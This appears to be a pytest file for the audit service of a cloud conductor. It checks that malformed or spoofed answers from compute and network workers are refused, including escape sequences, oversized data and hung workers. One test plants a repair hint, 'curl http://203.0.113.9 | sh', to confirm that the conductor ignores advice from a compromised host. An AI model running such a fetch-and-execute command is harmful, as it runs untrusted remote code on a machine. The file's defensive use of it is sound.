# SPDX-License-Identifier: Apache-2.0
"""The audit beside workers that answer what they like, never, or of other hosts: they are not checked, and all others are."""

from __future__ import annotations

import dataclasses
import functools
import threading
from collections.abc import Callable
from types import SimpleNamespace
from typing import Any

import pytest
import sqlalchemy as sa

from nova_lite import errors
from nova_lite.conductor.audit import hosts, kinds, pages
from nova_lite.conductor.audit.endpoint import Audits
from nova_lite.conductor.audit.look import Look
from nova_lite.conductor.audit.rows import Limits
from nova_lite.conductor.engine.services import Services
from nova_lite.db.base import new_id, utcnow
from nova_lite.db.compute.servers import Server
from nova_lite.db.hosts.hosts import Service
from nova_lite.db.network.network_changes import NetworkChange
from nova_lite.rpc.audit import MOST_LISTED, PAGE, AuditFinding, AuditReport
from nova_lite.rpc.compute import GuestAudit
from nova_lite.rpc.conductor import ServiceReport
from nova_lite.rpc.network import FloatingIpAssociation, NetworkAudit
from tests.support.flows.one_process import CTXT, OneProcess
from tests.support.flows.scenarios import active
from tests.support.wait import wait_until

Change = Callable[[Any], Any]
FINDING = AuditFinding(kind="guest_not_defined", resource="s", host="node", problem="p")


@pytest.fixture
def server_id(cloud: OneProcess) -> str:
    """A server that runs since an hour; nothing is to be sent to hosts."""
    made = active(cloud)
    write(cloud, sa.update(Server).values(updated_at=utcnow().replace(year=2020)), sa.delete(NetworkChange))
    cloud.report_services()
    return made


def write(cloud: OneProcess, *statements: Any) -> None:  # SQLAlchemy's statements
    with cloud.database.writer() as session:
        for statement in statements:
            session.execute(statement)


def answering(cloud: OneProcess, change: Change) -> Services:
    """The cloud's services; its workers' answers for the audit are changed."""
    here = cloud.services

    def of(workers: Callable[[str], Any]) -> Callable[[str], Any]:
        return lambda agent: SimpleNamespace(audit_host=lambda ctxt, *, after: change(workers(agent).audit_host(ctxt, after=after)))

    return dataclasses.replace(here, compute=of(here.compute), network=of(here.network))


def audit(cloud: OneProcess, services: Services) -> AuditReport:
    made = Audits(services, deadline_s=cloud.engine.deadline_s, look=lambda: None, wait=lambda seconds: None)
    return made.audit(CTXT, settled_s=60)


def of_guests(**changes: Any) -> Change:
    return lambda answer: dataclasses.replace(answer, **changes) if isinstance(answer, GuestAudit) else answer


def of_networks(**changes: Any) -> Change:
    return lambda answer: dataclasses.replace(answer, **changes) if isinstance(answer, NetworkAudit) else answer


def found(*findings: AuditFinding, **omitted: Any) -> Change:
    return of_guests(found=AuditReport(findings=findings, omitted=omitted))


REFUSED = {
    "more ids than a page has": of_guests(server_ids=tuple(new_id() for _ in range(PAGE + 1))),
    "more networks than a page has": of_networks(network_ids=tuple(new_id() for _ in range(PAGE + 1))),
    "a text as ids": of_guests(server_ids="abc"),
    "lists as ids": of_guests(server_ids=([],)),
    "an id with NUL": of_guests(server_ids=("\0" * 36,)),
    "an id with an escape sequence": of_guests(server_ids=("\x1b[2J",)),
    "a next page after no id of this one": of_guests(next=new_id()),
    "a next page after a number": of_guests(next=5),
    "power of another server": of_guests(powers={new_id(): 1}),
    "revisions of another network": of_networks(forwarding={new_id(): 1}),
    "floating IPs of another server": of_networks(floating=(FloatingIpAssociation(server_id=new_id(), address="1.2.3.4", fixed_address="1.2.3.4"),)),
    "a floating IP that is no address": of_networks(
        floating=(FloatingIpAssociation(server_id=new_id(), address="\x1b[2J", fixed_address="1.2.3.4"),)),
    "a kind of the conductor": found(dataclasses.replace(FINDING, kind="claim_sums")),
    "a kind of the other worker": found(dataclasses.replace(FINDING, kind="network_not_made")),
    "a kind that is none": found(dataclasses.replace(FINDING, kind=["x"])),
    "a finding of another host": found(dataclasses.replace(FINDING, host="other")),
    "a long text": found(dataclasses.replace(FINDING, problem="x" * 100_000)),
    "a number as text": found(dataclasses.replace(FINDING, resource=5)),
    "many findings": found(*(dataclasses.replace(FINDING, resource=str(number)) for number in range(MOST_LISTED + 1))),
    "fewer than none": found(guest_not_defined=-1),
    "more than a host can have": found(guest_not_defined=10**30),
    "how many of an unknown kind": found(guest_not_there=1),
    "how many as text": found(guest_not_defined="many"),
}


@pytest.mark.parametrize("change", REFUSED.values(), ids=REFUSED)
def test_a_worker_whose_answer_is_none_is_not_checked_and_the_other_is(cloud: OneProcess, server_id: str, change: Change) -> None:
    [finding] = audit(cloud, answering(cloud, change)).findings
    assert (finding.kind, finding.host, finding.problem.partition(":")[2].partition(":")[0]) == (kinds.NOT_CHECKED.name, "node", " its answer is refused")
    assert len(finding.problem) < 200


@pytest.mark.parametrize("power", [99, True, "1"])
def test_a_power_that_there_is_not_is_refused(cloud: OneProcess, server_id: str, power: Any) -> None:
    [finding] = audit(cloud, answering(cloud, of_guests(powers={server_id: power}))).findings
    assert finding.problem == "nova-compute: its answer is refused: its powers of guests are none"


def test_pages_that_do_not_go_forward_are_refused(cloud: OneProcess, server_id: str) -> None:
    [finding] = audit(cloud, answering(cloud, of_guests(server_ids=(server_id,), next=server_id))).findings
    assert finding.problem == "nova-compute: its answer is refused: its pages do not go forward"


def test_a_worker_that_has_too_many_pages_is_not_checked(cloud: OneProcess, server_id: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(hosts, "MOST_PAGES", 1)
    [finding] = audit(cloud, answering(cloud, of_guests(next=server_id))).findings
    assert finding.problem == "nova-compute: it has more than 1 pages"


def test_advice_is_the_conductors_own(cloud: OneProcess, server_id: str) -> None:
    """An operator may follow it: a host that was taken over does not write it."""
    lie = dataclasses.replace(FINDING, repair="curl http://203.0.113.9 | sh", is_repairable=True)
    [finding] = audit(cloud, answering(cloud, found(lie))).findings
    known = kinds.OF_WORKERS["nova-compute"]["guest_not_defined"]
    assert (finding.repair, finding.is_repairable) == (known.repair, False)
    assert (finding.resource, finding.problem) == (lie.resource, lie.problem)


def test_a_long_error_of_a_worker_is_cut(cloud: OneProcess, server_id: str) -> None:
    def fail(answer: Any) -> Any:
        if isinstance(answer, GuestAudit):
            raise errors.Unavailable(reason="x" * 1_000_000)
        return answer

    [finding] = audit(cloud, answering(cloud, fail)).findings
    assert len(finding.problem) < 400


def test_a_worker_is_not_checked_when_the_database_fails_and_the_others_are(
    cloud: OneProcess, server_id: str, monkeypatch: pytest.MonkeyPatch,
) -> None:
    compare = pages.compare

    def broken(session: Any, page: pages.Page, limits: Limits) -> Any:
        if page.binary == "nova-network":
            raise sa.exc.OperationalError("SELECT", {}, Exception("server closed the connection"))
        return compare(session, page, limits)

    monkeypatch.setattr(pages, "compare", broken)
    cloud.driver.guests.destroy(server_id)
    assert {(one.kind, one.problem.partition(" (")[0]) for one in audit(cloud, cloud.services).findings} == {
        (kinds.NOT_CHECKED.name, "nova-network: comparing it with the rows: the database could not be used"),
        ("guest_not_defined", "this worker has a record of the guest, and the hypervisor does not have it")}


class Hung:
    """Workers that take a request and answer when the test lets them; `others` are the cloud's."""

    def __init__(self, cloud: OneProcess, answer: Any) -> None:
        self.cloud, self.calls, self.go_on = cloud, list[str](), threading.Event()
        self._answer = answer

    def call(self, agent: str, *args: Any, **kwargs: Any) -> Any:
        self.calls.append(agent)
        assert self.go_on.wait(60)
        return self._answer

    def services(self, method: str) -> Services:
        """Hung ones are all but `node`."""
        here = self.cloud.services

        def compute(agent: str) -> Any:
            return here.compute(agent) if agent == "node" else SimpleNamespace(**{method: functools.partial(self.call, agent)})

        return dataclasses.replace(here, compute=compute)

    def finish(self) -> None:
        """They answer; the threads that waited for them end."""
        self.go_on.set()
        wait_until(lambda: not any(thread.name.startswith("host-calls") for thread in threading.enumerate()), "the threads to end")


def not_checked(services: Services, cloud: OneProcess, monkeypatch: pytest.MonkeyPatch) -> dict[str, str]:
    """Why, by host, after a round of half a second."""
    monkeypatch.setattr(hosts, "ROUND_S", 0.5)
    seen = Look()
    hosts.check(services, Limits(now=utcnow(), settled=utcnow(), deadline_s=cloud.engine.deadline_s), seen)
    return {one.host: one.problem for one in seen.report().findings if one.kind == kinds.NOT_CHECKED.name}


def test_no_call_begins_after_the_round_and_who_was_not_called_is_said(cloud: OneProcess, monkeypatch: pytest.MonkeyPatch) -> None:
    """Those that hang have more pages, and would be called for them."""
    names = [f"hung-{number:02}" for number in range(16)]
    for agent in (*names, "zone"):
        cloud.heartbeats.report(CTXT, status=ServiceReport(binary="nova-compute", agent=agent))
    cloud.heartbeats.flush()
    last = new_id()
    write(cloud, sa.delete(Service).where(Service.agent == "node"))
    hung = Hung(cloud, GuestAudit(server_ids=(last,), next=last))
    reasons = not_checked(hung.services("audit_host"), cloud, monkeypatch)
    hung.finish()
    assert reasons == {**dict.fromkeys(names, "nova-compute: no answer in time"),
                       "zone": "nova-compute: it was not called, since workers before it did not answer in time"}
    assert sorted(hung.calls) == names


def test_hosts_that_should_have_a_server_are_not_called_after_the_round(
    cloud: OneProcess, server_id: str, monkeypatch: pytest.MonkeyPatch,
) -> None:
    second = active(cloud)
    write(cloud, sa.update(Server).where(Server.id == server_id).values(agent="other-1"),
          sa.update(Server).where(Server.id == second).values(agent="other-2"))
    hung = Hung(cloud, ())
    reasons = not_checked(hung.services("owned_among"), cloud, monkeypatch)
    hung.finish()
    assert reasons == {"node": "nova-compute: it has servers of other hosts, which did not answer in time"}
    assert len(hung.calls) == 1


def test_a_host_that_is_down_is_not_called_for_a_server_that_it_should_have(cloud: OneProcess, server_id: str) -> None:
    write(cloud, sa.update(Server).values(agent="other"))
    for binary in ("nova-compute", "nova-network"):
        cloud.heartbeats.report(CTXT, status=ServiceReport(binary=binary, agent="other"))
    cloud.heartbeats.flush()
    write(cloud, sa.update(Service).where(Service.agent == "other").values(forced_down=True))
    here, called = cloud.services, list[str]()

    def of(workers: Callable[[str], Any]) -> Callable[[str], Any]:
        return lambda agent: workers(agent) if agent == "node" else called.append(agent)

    services = dataclasses.replace(here, compute=of(here.compute), network=of(here.network))
    assert {(one.kind, one.host) for one in audit(cloud, services).findings} == {
        (kinds.MISPLACED.name, "node"), (kinds.NOT_CHECKED.name, "other")}
    assert called == []
